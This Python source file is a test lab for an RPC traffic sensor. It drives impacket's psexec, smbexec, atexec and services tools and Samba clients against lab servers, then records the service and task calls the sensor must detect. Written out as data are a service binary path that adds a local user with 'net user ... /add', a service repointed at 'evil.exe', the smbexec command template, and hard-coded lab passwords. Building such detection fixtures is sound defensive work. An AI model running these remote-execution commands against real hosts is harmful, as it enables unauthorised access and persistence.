#!/usr/bin/python3
"""The traffic lab: real clients against real servers (and fake_rpc_server.py
where Linux has none), in network namespaces, captured on the monitor point.

For each scenario: tcpdump and the sensor (live, libpcap) start on the
monitor interface, the client commands run in the client namespace, both
stop; the capture is written to OUT/<scenario>.pcap with <scenario>.md (how
it was made) and <scenario>.expected.json (the calls the sensor must report,
written from what the tools were given, not from the sensor's output). The
sensor's live records must equal its reading of the saved capture: the
multiset of (interface, operation, class, call_id, sealed, args) of every
call, or the run fails.

  lab.py [--out DIR] [--prefix P] [--bin RPCSENTRY] [--keep-live] [--list] [SCENARIO...]

Needs root, iproute2 (ip netns), tcpdump, samba (smbd, samba-dcerpcd),
smbclient's net, ethtool and Debian's python3-impacket; the Kerberos scenarios
also samba-ad-dc (a DC provisioned for the run, its KDC at 192.0.2.22) and
krb5-user (kinit, kvno). Exit status 0 when
every scenario was captured and its live check passed.
"""

import argparse
import collections
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
PY = "/usr/bin/python3"
SAMBA_IP, FAKE_IP, CLIENT_IP, DC_IP = "192.0.2.20", "192.0.2.21", "192.0.2.10", "192.0.2.22"
SAMBA_ENC_IP = "192.0.2.23"  # the Samba that requires SMB 3 encryption
REALM, DC_NAME = "LAB.EXAMPLE", "labdc.lab.example"
# the lab's service account: the fake server's Kerberos identity (SPN host/FAKE_IP)
SVC_ACCOUNT, SVC_PASSWORD = "labrpc", "Rpc-Passw0rd!"
CREDS = "LAB/Administrator:Passw0rd!"
LAB_USER, LAB_PASSWORD = "LAB\\Administrator", "Passw0rd!"
MONITOR = "srv0"

sys.path.insert(0, HERE)
from expect import problems  # noqa: E402

TSCH, SVCCTL, ATSVC, EPM = "ITaskSchedulerService", "svcctl", "ATSvc", "epm"
WINREG = "winreg"


def tool(*argv, seed=1, level=None):
    """An impacket example tool, run through run_tool.py."""
    cmd = [PY, "run_tool.py", "--seed", str(seed)]
    if level is not None:
        cmd += ["--auth-level", str(level)]
    return cmd + list(argv)


def client(*argv):
    return [PY, "lab_client.py"] + list(argv)


# opnums (MS-SCMR, MS-TSCH, MS-RPCE, MS-SRVS, MS-LSAD), checked against tshark
OPNUMS = {
    "ROpenSCManagerW": 15, "ROpenServiceW": 16, "RCloseServiceHandle": 0, "RCreateServiceW": 12,
    "RStartServiceW": 19, "RControlService": 1, "RDeleteService": 2, "RQueryServiceConfigW": 17,
    "RChangeServiceConfigW": 11, "RQueryServiceStatus": 6,
    "SchRpcRegisterTask": 1, "SchRpcRun": 12, "SchRpcGetLastRunInfo": 16, "SchRpcDelete": 13,
    "NetrJobAdd": 0, "NetrJobDel": 1, "NetrJobEnum": 2,
    "ept_lookup": 2, "ept_map": 3,
    "NetrShareEnum": 15, "NetrServerGetInfo": 21,
    "LsarClose": 0, "LsarOpenPolicy": 6, "LsarQueryInformationPolicy": 7, "LsarOpenPolicy2": 44,
    # MS-SAMR 3.1.5
    "SamrConnect5": 64, "SamrEnumerateDomainsInSamServer": 6, "SamrLookupDomainInSamServer": 5,
    "SamrOpenDomain": 7, "SamrEnumerateUsersInDomain": 13, "SamrCloseHandle": 1,
    # MS-RRP 3.1.5
    "OpenLocalMachine": 2, "BaseRegCreateKey": 6, "BaseRegDeleteValue": 8, "BaseRegOpenKey": 15,
    "BaseRegQueryValue": 17, "BaseRegSaveKey": 20, "BaseRegSetValue": 22,
    "BaseRegSetKeySecurity": 21, "BaseRegCloseKey": 5,
    "RQueryServiceObjectSecurity": 4, "RSetServiceObjectSecurity": 5, "SchRpcSetSecurity": 4,
}
def call(iface, op, cls, sealed=False, **args):
    c = {"interface": iface, "operation": op, "opnum": OPNUMS[op], "class": cls,
         "sealed": sealed}
    if args:
        c["args"] = args
    return c


# svcctl calls, by the names the sensor gives them
def scm_open():
    return call(SVCCTL, "ROpenSCManagerW", "other")


def svc_open(name):
    return call(SVCCTL, "ROpenServiceW", "other", service_name=name)


def svc_close():
    return call(SVCCTL, "RCloseServiceHandle", "other")


def svc_create(name, path, display=None):
    a = {"service_name": name, "binary_path": path}
    if display is not None:
        a["display_name"] = display
    return call(SVCCTL, "RCreateServiceW", "create", **a)


def svc_start():
    return call(SVCCTL, "RStartServiceW", "execute")


def svc_stop():
    return call(SVCCTL, "RControlService", "execute", control="stop")


def svc_delete():
    return call(SVCCTL, "RDeleteService", "delete")


def task_calls(path, command, arguments, sealed=False, run_info=False):
    if sealed:
        reg = call(TSCH, "SchRpcRegisterTask", "create", sealed=True)
        out = [reg, call(TSCH, "SchRpcRun", "execute", sealed=True)]
        if run_info:
            out.append(call(TSCH, "SchRpcGetLastRunInfo", "read", sealed=True))
        return out + [call(TSCH, "SchRpcDelete", "delete", sealed=True)]
    reg = call(TSCH, "SchRpcRegisterTask", "create", **{
        "path": path, "task.actions": [{"type": "exec", "command": command,
                                        "arguments": arguments}]})
    out = [reg, call(TSCH, "SchRpcRun", "execute", path=path)]
    if run_info:
        out.append(call(TSCH, "SchRpcGetLastRunInfo", "read", path=path))
    return out + [call(TSCH, "SchRpcDelete", "delete", path=path)]


SMBEXEC_PATH = (r"%COMSPEC% /Q /c echo {cmd} ^> \\127.0.0.1\C$\__output 2^>^&1 > "
                r"%TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat")

# atexec names its task with 8 random letters, drawn after impacket's own uses
# of the random module: with run_tool.py --seed 2 they are always these (for
# Debian's impacket 0.10.0; another version may draw differently, and then
# run.sh says so: the calls then differ from the expectation)
ATEXEC_SEED2_TASK = "uliGGxGR"

# what Samba's net does first on every connection
LSA_NET = [call("lsarpc", "LsarOpenPolicy", "other"), call("lsarpc", "LsarQueryInformationPolicy",
                                                            "other"),
           call("lsarpc", "LsarClose", "other")]

SCENARIOS = collections.OrderedDict()


def scenario(name, **kw):
    kw["name"] = name
    SCENARIOS[name] = kw


# the Kerberos scenarios' first steps: a TGT for LAB.EXAMPLE\Administrator from the lab's
# KDC (MIT kinit, the password on stdin), and for the fake server the service ticket too
# (impacket 0.10's own TGS-REQ has no checksum in its authenticator, which Samba's KDC
# refuses with KRB_AP_ERR_INAPP_CKSUM: the ticket comes from MIT kvno into the cache,
# where impacket takes it)
KINIT = {"argv": ["kinit", "Administrator@" + REALM], "stdin": "Passw0rd!\n"}
KVNO_FAKE = {"argv": ["kvno", "host/" + FAKE_IP]}


scenario(
    "psexec_svcctl",
    title="impacket psexec: RemComSvc uploaded, service created, started, stopped, deleted",
    server="fake", auth="SMB2 session NTLMv2; DCE/RPC on \\pipe\\svcctl without RPC-level auth "
    "(psexec has no option for it)",
    steps=[{"argv": tool("psexec.py", CREDS + "@" + FAKE_IP, "cmd.exe /c whoami",
                         "-service-name", "LabPsexec", "-remote-binary-name", "labpsx.exe"),
            "stdin_open": True}],
    note="psexec enumerates the shares (srvsvc NetrShareEnum, answered by impacket's SMB server), "
    "uploads RemComSvc to ADMIN$ as labpsx.exe, creates and starts the service; the fake "
    "server then plays RemComSvc on \\pipe\\RemCom_communicaton and returns the command's "
    "exit code, and psexec stops and deletes the service and the file.",
    calls=[call("srvsvc", "NetrShareEnum", "other"),
           scm_open(), svc_open("LabPsexec"),
           svc_create("LabPsexec", r"%systemroot%\labpsx.exe"),
           svc_start(), svc_close(), svc_close(),
           scm_open(), svc_open("LabPsexec"), svc_stop(), svc_delete(), svc_close(), svc_close()])

scenario(
    "services_create_start_delete",
    title="impacket services: create, start, delete a service (three connections)",
    server="fake", auth="SMB2 session NTLMv2; no RPC-level auth (services.py has no option for it)",
    steps=[{"argv": tool("services.py", CREDS + "@" + FAKE_IP, "create", "-name", "LabSvc",
                         "-display", "Lab Service", "-path", r"C:\Windows\Temp\labsvc.exe")},
           {"argv": tool("services.py", CREDS + "@" + FAKE_IP, "start", "-name", "LabSvc")},
           {"argv": tool("services.py", CREDS + "@" + FAKE_IP, "delete", "-name", "LabSvc")}],
    calls=[scm_open(), svc_create("LabSvc", r"C:\Windows\Temp\labsvc.exe", "Lab Service"),
           svc_close(),
           scm_open(), svc_open("LabSvc"), svc_start(), svc_close(), svc_close(),
           scm_open(), svc_open("LabSvc"), svc_delete(), svc_close(), svc_close()])

scenario(
    "smbexec_cmd_in_binpath",
    title="impacket smbexec: the command in the service's binary path, a service per command",
    server="fake", auth="SMB2 session NTLMv2; no RPC-level auth",
    steps=[{"argv": tool("smbexec.py", CREDS + "@" + FAKE_IP, "-service-name", "LabSmbexec"),
            "stdin": "whoami\nexit\n"}],
    note="smbexec runs 'cd ' at start (to learn the prompt) and then each line typed: here "
    "'whoami', then 'exit'. Each command is a service of its own, created with the command "
    "in its binary path, started (cmd.exe is no service: ERROR_SERVICE_REQUEST_TIMEOUT, as "
    "on Windows) and deleted. The fake server writes a line to C$\\__output, which smbexec "
    "reads back and deletes over SMB.",
    calls=[scm_open(),
           svc_create("LabSmbexec", SMBEXEC_PATH.format(cmd="cd ")), svc_start(), svc_delete(),
           svc_close(),
           svc_create("LabSmbexec", SMBEXEC_PATH.format(cmd="whoami")), svc_start(),
           svc_delete(), svc_close()])

scenario(
    "atexec_privacy",
    title="impacket atexec over \\pipe\\atsvc with packet privacy (as shipped): sealed",
    server="fake", auth="SMB2 session NTLMv2; DCE/RPC NTLMSSP at packet privacy (level 6)",
    steps=[{"argv": tool("atexec.py", CREDS + "@" + FAKE_IP, "whoami", seed=1)}],
    note="Only the operations are visible; task name, XML and command are encrypted.",
    calls=task_calls(None, None, None, sealed=True, run_info=True))

_AT2 = ATEXEC_SEED2_TASK
scenario(
    "atexec_connect",
    title="impacket atexec over \\pipe\\atsvc at auth level connect: the task XML in the clear",
    server="fake", auth="SMB2 session NTLMv2; DCE/RPC NTLMSSP at level connect (2), forced by "
    "run_tool.py --auth-level 2 in place of atexec's hard-coded packet privacy",
    steps=[{"argv": tool("atexec.py", CREDS + "@" + FAKE_IP, "whoami", seed=2, level=2)}],
    note="atexec names the task with 8 random letters; run_tool.py --seed 2 makes them \\%s." % _AT2,
    calls=task_calls("\\" + _AT2, "cmd.exe", r"/C whoami > %%windir%%\Temp\%s.tmp 2>&1" % _AT2,
                     run_info=True))

scenario(
    "change_service_existing",
    title="ChangeServiceConfigW on an existing service, started, then its path put back",
    server="fake", auth="SMB2 session NTLMv2; no RPC-level auth",
    steps=[{"argv": client("change-service", FAKE_IP, "LabUpdater",
                           r"cmd.exe /c net user labsvc Passw0rd! /add")}],
    calls=[scm_open(), svc_open("LabUpdater"),
           call(SVCCTL, "RQueryServiceConfigW", "read"),
           call(SVCCTL, "RChangeServiceConfigW", "modify",
                binary_path=r"cmd.exe /c net user labsvc Passw0rd! /add"),
           svc_start(),
           call(SVCCTL, "RChangeServiceConfigW", "modify",
                binary_path=r"C:\Program Files\LabUpdater\updater.exe"),
           svc_close(), svc_close()])

scenario(
    "epm_dynamic_port_task",
    title="ept_map for the task scheduler on 135, then a task over TCP on the port it named",
    server="fake", auth="DCE/RPC NTLMSSP at level connect (2) on ncacn_ip_tcp",
    steps=[{"argv": client("epm-task", FAKE_IP, r"\LabEpmTask", r"C:\Windows\System32\cmd.exe",
                           r"/c hostname > C:\Windows\Temp\h.txt")}],
    note="The endpoint mapper answers port 49670; the session there has no bind the sensor "
    "could miss, but its port is the one the mapper announced.",
    calls=[call(EPM, "ept_map", "read", **{"interface.uuid":
                                            "86d35949-83c9-4044-b424-db363231fd0c"})]
    + task_calls(r"\LabEpmTask", r"C:\Windows\System32\cmd.exe",
                 r"/c hostname > C:\Windows\Temp\h.txt"))

scenario(
    "epm_task_privacy_fragmented",
    title="ept_map, then a task over TCP at packet privacy, its registration in sealed fragments",
    server="fake", auth="DCE/RPC NTLMSSP at packet privacy (6) on ncacn_ip_tcp",
    steps=[{"argv": client("epm-task", FAKE_IP, r"\LabSealedTask", r"C:\Windows\System32\cmd.exe",
                           r"/c ipconfig /all > C:\Windows\Temp\ip.txt", "--auth-level", "6",
                           "--max-frag", "512")}],
    note="The client sends SchRpcRegisterTask in fragments of at most 512 stub bytes, each "
    "sealed and signed on its own, the RC4 stream running on from one to the next. Sealed: "
    "only the operations are visible without the key; with --ntlm-secrets for "
    "LAB\\Administrator (Passw0rd!) the task name and command are read "
    "(tests/e2e/test_ntlm_decrypt.py).",
    calls=[call(EPM, "ept_map", "read", **{"interface.uuid":
                                            "86d35949-83c9-4044-b424-db363231fd0c"})]
    + task_calls(r"\LabSealedTask", r"C:\Windows\System32\cmd.exe",
                 r"/c ipconfig /all > C:\Windows\Temp\ip.txt", sealed=True))

# ept_map for svcctl, then a service created, started and deleted over TCP, every call sealed
EPM_SERVICE_SEALED = [
    call(EPM, "ept_map", "read", **{"interface.uuid": "367abb81-9844-35f1-ad32-98f038001003"}),
    call(SVCCTL, "ROpenSCManagerW", "other", sealed=True),
    call(SVCCTL, "RCreateServiceW", "create", sealed=True),
    call(SVCCTL, "RStartServiceW", "execute", sealed=True),
    call(SVCCTL, "RDeleteService", "delete", sealed=True),
    call(SVCCTL, "RCloseServiceHandle", "other", sealed=True),
    call(SVCCTL, "RCloseServiceHandle", "other", sealed=True)]

scenario(
    "epm_service_privacy",
    title="ept_map for svcctl, then a service created, started and deleted over TCP, sealed",
    server="fake", auth="DCE/RPC NTLMSSP at packet privacy (6) on ncacn_ip_tcp",
    steps=[{"argv": client("epm-service", FAKE_IP, "LabSealedSvc",
                           r"C:\Windows\Temp\labsealed.exe -k run", "--auth-level", "6")}],
    note="Sealed: only the operations are visible without the key; with --ntlm-secrets for "
    "LAB\\Administrator (Passw0rd!) the service name and binary path are read "
    "(tests/e2e/test_ntlm_decrypt.py).",
    calls=EPM_SERVICE_SEALED)

scenario(
    "epm_task_kerberos",
    title="ept_map, then a task over TCP sealed with Kerberos (impacket's client, a ticket from "
    "the lab's KDC)",
    server="fake", kdc=True, keytab="labrpc",
    auth="DCE/RPC SPNEGO (9) with Kerberos at packet privacy (6) on ncacn_ip_tcp, DCE style: "
    "AP-REQ in the bind, AP-REP with the server's subkey in the bind_ack, the client's AP-REP "
    "in an alter_context; the ticket sealed with rc4-hmac (the service account has no "
    "msDS-SupportedEncryptionTypes, so the KDC, as Windows's, takes RC4 for its tickets), the "
    "session key and subkey aes256-cts-hmac-sha1-96",
    steps=[KINIT, KVNO_FAKE,
           {"argv": client("epm-task", FAKE_IP, r"\LabKrbTask", r"C:\Windows\System32\cmd.exe",
                           r"/c whoami /all > C:\Windows\Temp\krb.txt", "--auth-level", "6",
                           "--kerberos", DC_IP)}],
    note="The service ticket is for host/192.0.2.21, the lab service account labrpc's SPN on the "
    "DC; pcaps/lab/epm_task_kerberos.keytab holds that account's keys (samba-tool domain "
    "exportkeytab). impacket pads the stub to 16 bytes inside the wrap token (EC 12), and "
    "rotates by RRC + EC. Sealed: only the operations are visible without the keytab; with "
    "--keytab the task name and command are read (tests/e2e/test_krb_decrypt.py).",
    calls=[call(EPM, "ept_map", "read", **{"interface.uuid":
                                            "86d35949-83c9-4044-b424-db363231fd0c"})]
    + task_calls(None, None, None, sealed=True))

scenario(
    "epm_service_kerberos",
    title="ept_map for svcctl, then a service created, started and deleted over TCP, sealed "
    "with Kerberos",
    server="fake", kdc=True, keytab="labrpc",
    auth="DCE/RPC SPNEGO (9) with Kerberos at packet privacy (6) on ncacn_ip_tcp, DCE style; "
    "the ticket rc4-hmac, the session key and subkey aes256-cts-hmac-sha1-96",
    steps=[KINIT, KVNO_FAKE,
           {"argv": client("epm-service", FAKE_IP, "LabKrbSvc",
                           r"C:\Windows\Temp\labkrb.exe --serve", "--auth-level", "6",
                           "--kerberos", DC_IP)}],
    note="As epm_task_kerberos, for svcctl: with --keytab the service name and binary path are "
    "read (tests/e2e/test_krb_decrypt.py).",
    calls=EPM_SERVICE_SEALED)

SAMR_ENUM_USERS = [call("samr", op, "other", sealed=True) for op in (
    "SamrConnect5", "SamrEnumerateDomainsInSamServer", "SamrLookupDomainInSamServer",
    "SamrOpenDomain", "SamrEnumerateUsersInDomain", "SamrCloseHandle", "SamrCloseHandle")]

scenario(
    "samba_dc_krb5_sealed",
    title="Samba's rpcclient against a Samba AD DC over TCP, sealed with Kerberos: raw (auth "
    "type 16) and inside SPNEGO (9)",
    server="dc", kdc=True, keytab="dc",
    auth="DCE/RPC Kerberos at packet privacy on ncacn_ip_tcp ([seal,krb5] and "
    "[seal,spnego,krb5] in the binding string); a ticket for host/labdc.lab.example, "
    "aes256-cts-hmac-sha1-96 throughout",
    steps=[KINIT,
           {"argv": ["rpcclient", "ncacn_ip_tcp:%s[seal,krb5]" % DC_NAME, "--use-krb5-ccache",
                     "@KRB5CC@", "-c", "enumdomusers"]},
           {"argv": ["rpcclient", "ncacn_ip_tcp:%s[seal,spnego,krb5]" % DC_NAME,
                     "--use-krb5-ccache", "@KRB5CC@", "-c", "enumdomusers"]}],
    note="Both ends are Samba's (its Heimdal Kerberos, DCE style, the three-leg exchange with "
    "an auth3 for type 16 and an alter_context inside SPNEGO). rpcclient asks the DC's "
    "endpoint mapper for samr first (no auth on 135). pcaps/lab/samba_dc_krb5_sealed.keytab "
    "holds the DC's machine account keys (LABDC$, exported for this run). Sealed: only the "
    "operations are visible without it; tshark decrypts the raw exchange with it too "
    "(tests/e2e/test_krb_decrypt.py).",
    calls=[call(EPM, "ept_map", "read", **{"interface.uuid":
                                            "12345778-1234-abcd-ef00-0123456789ac"})]
    + SAMR_ENUM_USERS
    + [call(EPM, "ept_map", "read", **{"interface.uuid":
                                       "12345778-1234-abcd-ef00-0123456789ac"})]
    + SAMR_ENUM_USERS)

scenario(
    "at_job",
    title="ATSvc NetrJobAdd, NetrJobEnum, NetrJobDel over \\pipe\\atsvc (at.exe)",
    server="fake", auth="SMB2 session NTLMv2; no RPC-level auth",
    steps=[{"argv": client("at-job", FAKE_IP, r"cmd.exe /c ipconfig > C:\Windows\Temp\ip.txt")}],
    calls=[call(ATSVC, "NetrJobAdd", "create", command=r"cmd.exe /c ipconfig > C:\Windows\Temp\ip.txt"),
           call(ATSVC, "NetrJobEnum", "read"), call(ATSVC, "NetrJobDel", "delete")])

scenario(
    "samba_services",
    title="impacket services against Samba 4.17: create (refused), change Spooler (refused), "
    "start Spooler (access denied)",
    server="samba", auth="SMB3 session NTLMv2; no RPC-level auth",
    steps=[{"argv": tool("services.py", CREDS + "@" + SAMBA_IP, "create", "-name", "LabSvc",
                         "-display", "Lab Service", "-path", r"C:\Windows\Temp\labsvc.exe")},
           {"argv": tool("services.py", CREDS + "@" + SAMBA_IP, "change", "-name", "Spooler",
                         "-path", r"C:\Windows\Temp\evil.exe")},
           {"argv": tool("services.py", CREDS + "@" + SAMBA_IP, "start", "-name", "Spooler")}],
    note="Samba's svcctl implements neither CreateServiceW nor ChangeServiceConfigW: it "
    "answers both with the fault nca_s_op_rng_error, and StartServiceW on Spooler with "
    "access denied. The requests are what the sensor judges.",
    calls=[scm_open(), svc_create("LabSvc", r"C:\Windows\Temp\labsvc.exe", "Lab Service"),
           scm_open(), svc_open("Spooler"),
           call(SVCCTL, "RChangeServiceConfigW", "modify", binary_path=r"C:\Windows\Temp\evil.exe"),
           scm_open(), svc_open("Spooler"), svc_start()])

scenario(
    "samba_psexec",
    title="impacket psexec against Samba 4.17: upload to ADMIN$, CreateServiceW refused",
    server="samba", auth="SMB3 session NTLMv2; no RPC-level auth",
    steps=[{"argv": tool("psexec.py", CREDS + "@" + SAMBA_IP, "cmd.exe /c whoami",
                         "-service-name", "LabPsexec", "-remote-binary-name", "labpsx.exe"),
            "stdin_open": True}],
    note="Samba cannot run a Windows service: CreateServiceW gets the fault nca_s_op_rng_error, "
    "psexec gives up and deletes the uploaded file. Samba's srvsvc answers NetrShareEnum.",
    calls=[call("srvsvc", "NetrShareEnum", "other"), scm_open(), svc_open("LabPsexec"),
           svc_create("LabPsexec", r"%systemroot%\labpsx.exe")])

scenario(
    "samba_net_rpc_service",
    title="Samba's own client (net rpc service) against Samba: create, status, delete",
    server="samba", auth="SMB3 session NTLMv2 (signed); no RPC-level auth",
    steps=[{"argv": ["net", "rpc", "service", "create", "LabNetSvc", "Lab Net Service",
                     r"C:\Windows\Temp\netsvc.exe", "-I", SAMBA_IP, "-U",
                     "Administrator%Passw0rd!", "-W", "LAB"], "rc": (255,)},
           {"argv": ["net", "rpc", "service", "status", "Spooler", "-I", SAMBA_IP, "-U",
                     "Administrator%Passw0rd!", "-W", "LAB"]},
           {"argv": ["net", "rpc", "service", "delete", "LabNetSvc", "-I", SAMBA_IP, "-U",
                     "Administrator%Passw0rd!", "-W", "LAB"], "rc": (255,)}],
    note="net opens lsarpc first (LsarOpenPolicy, LsarQueryInformationPolicy, LsarClose) "
    "on each connection. Samba refuses CreateServiceW with the fault nca_s_op_rng_error; "
    "'status' reads Spooler's status and configuration (the first QueryServiceConfigW "
    "asks for the size); 'delete' finds no LabNetSvc and stops there.",
    calls=LSA_NET + [call(SVCCTL, "ROpenSCManagerW", "other", machine_name="\\\\" + SAMBA_IP),
                     svc_create("LabNetSvc", r"C:\Windows\Temp\netsvc.exe", "Lab Net Service"),
                     svc_close()]
    + LSA_NET + [scm_open(), svc_open("Spooler"), call(SVCCTL, "RQueryServiceStatus", "read"),
                 call(SVCCTL, "RQueryServiceConfigW", "read", service_name="Spooler"),
                 call(SVCCTL, "RQueryServiceConfigW", "read", service_name="Spooler"),
                 svc_close(), svc_close()]
    + LSA_NET + [scm_open(), svc_open("LabNetSvc"), svc_close()])

scenario(
    "samba_epm_dynamic_port",
    title="impacket rpcdump (ept_lookup) and ept_map for lsarpc against Samba's endpoint "
    "mapper, then lsarpc sealed on the dynamic port",
    server="samba", auth="none on 135; NTLMSSP packet privacy on the dynamic port",
    steps=[{"argv": tool("rpcdump.py", SAMBA_IP)},
           {"argv": client("epm-lsa", SAMBA_IP)}],
    note="rpcdump walks the whole endpoint map with ept_lookup (one call per entry, the "
    "last answered EPT_S_NOT_REGISTERED). Samba refuses LsarOpenPolicy2 on ncacn_ip_tcp "
    "(access denied): the session on the dynamic port is a bind with NTLMSSP and one "
    "sealed request.",
    calls=[call(EPM, "ept_lookup", "read"),
           call(EPM, "ept_map", "read", **{"interface.uuid": "12345778-1234-abcd-ef00-0123456789ab",
                                          "protocol": "ncacn_ip_tcp"}),
           call("lsarpc", "LsarOpenPolicy2", "other", sealed=True)])

scenario(
    "samba_rpcclient_sealed",
    title="Samba's rpcclient against Samba, sealed: over \\pipe\\srvsvc and, after its own "
    "ept_map, over ncacn_ip_tcp",
    server="samba", auth="DCE/RPC with packet privacy ([seal] in the binding string)",
    steps=[{"argv": ["rpcclient", "ncacn_np:%s[seal]" % SAMBA_IP, "-U",
                     "LAB/Administrator%Passw0rd!", "-c", "srvinfo"]},
           {"argv": ["rpcclient", "ncacn_ip_tcp:%s[seal]" % SAMBA_IP, "-U",
                     "LAB/Administrator%Passw0rd!", "-c", "lsaquery"], "rc": (1,)}],
    note="rpcclient asks Samba's endpoint mapper for lsarpc itself (ept_map, no auth on 135) "
    "and binds on the port it names with NTLMSSP at packet privacy; Samba refuses "
    "LsarOpenPolicy there (access denied, exit status 1). Both calls are sealed: only the "
    "operation is visible.",
    calls=[call("srvsvc", "NetrServerGetInfo", "other", sealed=True),
           call(EPM, "ept_map", "read", **{"interface.uuid": "12345778-1234-abcd-ef00-0123456789ab",
                                          "protocol": "ncacn_ip_tcp"}),
           call("lsarpc", "LsarOpenPolicy", "other", sealed=True)])

scenario(
    "samba_rpcclient_spnego_sealed",
    title="Samba's rpcclient against Samba over \\pipe\\srvsvc, sealed, NTLMSSP inside SPNEGO",
    server="samba", auth="DCE/RPC SPNEGO (auth type 9) with NTLMSSP at packet privacy "
    "([seal,spnego] in the binding string)",
    steps=[{"argv": ["rpcclient", "ncacn_np:%s[seal,spnego]" % SAMBA_IP, "-U",
                     "LAB/Administrator%Passw0rd!", "-c", "srvinfo;netshareenumall"]}],
    note="The NTLMSSP messages ride in SPNEGO tokens, each side's last one with a "
    "mechListMIC: a signature that moves that side's RC4 stream before the first sealed "
    "call. Sealed: only the operations are visible without the key.",
    calls=[call("srvsvc", "NetrServerGetInfo", "other", sealed=True),
           call("srvsvc", "NetrShareEnum", "other", sealed=True)])

scenario(
    "samba_dc_krb5_pipe_sealed",
    title="Samba's rpcclient against the Samba AD DC over \\pipe\\samr, the SMB session and "
    "the DCE/RPC association both Kerberos, the calls sealed",
    server="dc", kdc=True, keytab="dc",
    auth="SMB 3.1.1 SESSION_SETUP with Kerberos in SPNEGO (a ticket for cifs/labdc.lab.example); "
    "DCE/RPC Kerberos (auth type 16) at packet privacy on ncacn_np ([seal,krb5])",
    steps=[KINIT,
           {"argv": ["rpcclient", "ncacn_np:%s[seal,krb5]" % DC_NAME, "--use-krb5-ccache",
                     "@KRB5CC@", "-c", "enumdomusers"]}],
    note="Two tickets from the DC: cifs/ for the SMB session, host/ for the association. "
    "The DC's keytab opens both (its machine account holds both names). Sealed: only the "
    "operations are visible without it (tests/e2e/test_krb_decrypt.py).",
    calls=SAMR_ENUM_USERS)

scenario(
    "samba_dc_krb5_smb3_encrypted",
    title="Samba's net rpc service create against the Samba AD DC, the SMB 3.1.1 session "
    "Kerberos and encrypted (client smb encrypt = required)",
    server="dc", kdc=True, keytab="dc",
    auth="SMB 3.1.1 SESSION_SETUP with Kerberos in SPNEGO (a ticket for cifs/labdc.lab.example, "
    "the AP-REP's subkey the session key), every message after it in a TRANSFORM_HEADER; no "
    "RPC-level auth",
    steps=[KINIT,
           {"argv": ["net", "rpc", "service", "create", "LabKrbEncSvc", "Lab Kerberos Encrypted",
                     r"C:\Windows\Temp\krbenc.exe -k run", "-S", DC_NAME, "--use-kerberos=required",
                     "--use-krb5-ccache", "@KRB5CC@", "--option=client smb encrypt=required"],
            "rc": (0, 255)}],
    note="The DC's keytab opens the ticket, the AP-REP gives the subkey, and from it the "
    "session's encryption keys are derived (MS-SMB2 3.2.5.3, with the 3.1.1 hash of the "
    "setup): without the keytab only smb.encrypted_session anomalies are seen "
    "(tests/e2e/test_krb_decrypt.py).",
    keys="keytab",
    calls=LSA_NET + [call(SVCCTL, "ROpenSCManagerW", "other",
                          machine_name="\\\\" + DC_NAME.upper()),
                     svc_create("LabKrbEncSvc", r"C:\Windows\Temp\krbenc.exe -k run",
                                "Lab Kerberos Encrypted"),
                     svc_close()])

RC4_ENV = {"KRB5_CONFIG": "@WORK@/krb5-rc4.conf", "KRB5CCNAME": "@WORK@/krb5cc-rc4"}

scenario(
    "samba_dc_krb5_rc4_sealed",
    title="Samba's rpcclient against the Samba AD DC over TCP, sealed with Kerberos, the "
    "client asking for rc4-hmac session keys only: RFC 4757 wrap tokens",
    server="dc", kdc=True, keytab="dc",
    auth="DCE/RPC Kerberos (auth type 16) at packet privacy on ncacn_ip_tcp ([seal,krb5]); "
    "the ticket for host/labdc.lab.example sealed with the DC's aes256 key, the session key "
    "and the subkeys rc4-hmac",
    steps=[dict(KINIT, env=RC4_ENV),
           {"argv": ["rpcclient", "ncacn_ip_tcp:%s[seal,krb5]" % DC_NAME, "--use-krb5-ccache",
                     "@WORK@/krb5cc-rc4", "-c", "enumdomusers"], "env": RC4_ENV}],
    note="KRB5_CONFIG names a krb5.conf of the run ($WORK/krb5-rc4.conf) whose "
    "default_tgs_enctypes, default_tkt_enctypes, permitted_enctypes and default_etypes are "
    "arcfour-hmac-md5 only (allow_weak_crypto on), so the KDC hands out RC4 session keys and "
    "Samba seals with RFC 4757 tokens (TOK_ID 02 01, 32 bytes in DCE style). Sealed: only "
    "the operations are visible without the DC's keytab (tests/e2e/test_krb_decrypt.py).",
    calls=[call(EPM, "ept_map", "read", **{"interface.uuid":
                                            "12345778-1234-abcd-ef00-0123456789ac"})]
    + SAMR_ENUM_USERS)

# SMB 3 encryption (issue 17): the second Samba requires it (smb encrypt = required); the
# calls are visible only to a sensor given the account's key (keys=True: --ntlm-secrets
# with the NT hash of Passw0rd!), which follows the NTLMSSP of SESSION_SETUP, takes the
# session key and decrypts every TRANSFORM_HEADER message
def net_encrypted(protocol, cipher):
    # net rpc connects to IPC$: client ipc max protocol, not client max protocol, bounds it
    opts = ["--option=client ipc max protocol=%s" % protocol,
            "--option=client smb encrypt=required",
            "--option=client smb3 encryption algorithms=%s" % cipher]
    return ["net", "rpc", "service", "create", "LabEncSvc", "Lab Encrypted Service",
            r"C:\Windows\Temp\encsvc.exe -k run", "-I", SAMBA_ENC_IP, "-U",
            "Administrator%Passw0rd!", "-W", "LAB"] + opts


NET_ENC_CALLS = LSA_NET + [call(SVCCTL, "ROpenSCManagerW", "other",
                                machine_name="\\\\" + SAMBA_ENC_IP),
                           svc_create("LabEncSvc", r"C:\Windows\Temp\encsvc.exe -k run",
                                      "Lab Encrypted Service"),
                           svc_close()]

for _proto, _dialect, _cipher in (("SMB3_00", "3.0", "AES-128-CCM"),
                                  ("SMB3_02", "3.0.2", "AES-128-CCM"),
                                  ("SMB3_11", "3.1.1", "AES-128-CCM"),
                                  ("SMB3_11", "3.1.1", "AES-128-GCM"),
                                  ("SMB3_11", "3.1.1", "AES-256-CCM"),
                                  ("SMB3_11", "3.1.1", "AES-256-GCM")):
    scenario(
        "smb3_encrypted_net_service_%s_%s" % (_dialect.replace(".", ""),
                                               _cipher.replace("-", "").lower()),
        title="Samba's net rpc service create over SMB %s encrypted with %s (Samba with smb "
        "encrypt = required)" % (_dialect, _cipher),
        server="samba-enc", keys=True,
        auth="SMB %s session NTLMv2 (SPNEGO), every message after SESSION_SETUP in an SMB2 "
        "TRANSFORM_HEADER (%s); no RPC-level auth" % (_dialect, _cipher),
        steps=[{"argv": net_encrypted(_proto, _cipher), "rc": (255,)}],
